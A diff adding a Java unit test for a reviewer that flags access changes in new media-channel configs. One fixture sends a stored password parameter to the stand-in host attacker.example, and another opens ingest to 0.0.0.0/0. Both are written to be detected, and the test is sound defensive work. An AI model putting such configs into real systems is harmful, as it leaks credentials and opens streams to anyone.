@@ -1,0 +1,78 @@
+package dev.onair.fleet.review;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import dev.onair.terraform.plan.Plan;
+import dev.onair.testing.ProjectFolder;
+import dev.onair.testing.SynthesizedProject;
+import java.nio.file.Path;
+import java.util.List;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+/**
+ * What a channel file that was never deployed says of who gets in, by what is synthesized of it.
+ */
+class AccessOfNewChannelsTest {
+
+  @TempDir private Path root;
+
+  @Test
+  void anInputThatIsOpenToAnyoneIsAccess() {
+    List<AccessChange> access =
+        accessOf(
+            """
+            class = SINGLE_PIPELINE
+            inputs.main {
+              type = RTMP_PUSH, allow = ["203.0.113.0/24", "0.0.0.0/0"], allow-anyone = true
+              stream-name = live
+            }
+            """);
+
+    assertThat(access).extracting(AccessChange::kind).containsExactly(AccessKind.INGEST_OPEN);
+    assertThat(access.get(0).details())
+        .containsExactly("0.0.0.0/0: 4294967296 addresses", "203.0.113.0/24: 256 addresses");
+  }
+
+  @Test
+  void aSecretThatIsSentToSomeHostIsAccess() {
+    List<AccessChange> access =
+        accessOf(
+            """
+            class = SINGLE_PIPELINE
+            inputs.main {
+              type = URL_PULL
+              sources = [{
+                url = "https://attacker.example/live.m3u8", username = bob
+                password-parameter = /onair/news/password
+              }]
+            }
+            """);
+
+    assertThat(access)
+        .extracting(AccessChange::kind)
+        .containsExactly(AccessKind.SECRET_NAMED, AccessKind.ROLE_GRANTED);
+    assertThat(access.get(0).details())
+        .containsExactly("/onair/news/password, for https://attacker.example");
+    assertThat(access.get(1).details())
+        .allMatch(grant -> grant.startsWith("ssm:GetParameter"))
+        .hasSize(2);
+  }
+
+  @Test
+  void anOrdinaryOneIsNot() {
+    assertThat(
+            accessOf(
+                """
+                class = SINGLE_PIPELINE
+                inputs.main { type = RTP_PUSH, allow = ["203.0.113.0/24"] }
+                """))
+        .isEmpty();
+  }
+
+  private List<AccessChange> accessOf(String channel) {
+    SynthesizedProject project =
+        SynthesizedProject.of(ProjectFolder.in(root).channel("news", channel));
+    return Reviewer.review("news", Plan.ofNew(project.stack("news")), EncoderState.IDLE).access();
+  }
+}
